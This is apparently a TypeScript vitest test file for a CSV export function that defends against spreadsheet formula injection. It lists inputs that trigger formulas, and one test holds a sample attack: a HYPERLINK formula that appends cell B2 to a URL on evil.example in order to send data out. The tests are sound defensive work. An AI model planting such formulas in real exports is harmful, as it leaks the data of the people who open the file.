import { expect, test } from "vitest";
import { makeCsv } from "./csv.ts";

const textOf = async (file: Blob) => new TextDecoder("utf-8", { ignoreBOM: true }).decode(await file.bytes());

test.each([
	"=HYPERLINK(1)",
	"+1",
	"-1",
	"@SUM(1)",
	"\t=1",
	"\r=1",
	"\n=1",
	" =1",
	"\u00a0\u200b=1",
	"\0=1",
	"＝1",
	"＋1",
	"－1",
	"＠SUM(1)",
	"=1+1\nand more",
	"=HYPERLINK(1)\r\n\u2028on the next line",
])("a text that a spreadsheet would run is disarmed, and otherwise stays as it is: %j", async (name) => {
	expect(await textOf(await makeCsv([name], (Name) => ({ Name })))).toBe(`\uFEFFName\r\n"'${name}"`);
});

test("disarms the known attack, whose formula continues after a line break", async () => {
	const attack = '=HYPERLINK("http://evil.example/?"&B2,\n"Open the brief")';
	const file = await makeCsv([attack], (Message) => ({ Name: "Eve", Message }));
	expect(await textOf(file)).toContain(`Eve,"'=HYPERLINK(""http://evil.example/?""&B2,`);
});

test("leaves text unchanged that no spreadsheet would run", async () => {
	const texts = ["1 + 1 = 2", "a-b", "ada@example.com", "(030) 12 34", "Hello\n=1", "", "#1"];
	const file = await makeCsv(texts, (Text) => ({ Text, Amount: -12.5 }));
	expect(await textOf(file)).not.toContain("'");
});

test("is marked as UTF-8, keeps line breaks, quotes and commas, and leaves nothing out", async () => {
	const file = await makeCsv(['Zoë, "Z"\nB.'], (Name) => ({ Name, Empty: null }));
	expect(await textOf(file)).toBe('\uFEFFName,Empty\r\n"Zoë, ""Z""\nB.",');
});

test("a long list is made piece by piece, with one header and its progress", async () => {
	const seen: number[] = [];
	const rows = Array.from({ length: 1201 }, (_, n) => n);
	const lines = (
		await textOf(
			await makeCsv(
				rows,
				(N) => ({ N }),
				(done) => seen.push(done),
			),
		)
	).split("\r\n");
	expect(lines).toEqual(["\uFEFFN", ...rows.map(String)]);
	expect(seen).toEqual([500, 1000]);
});
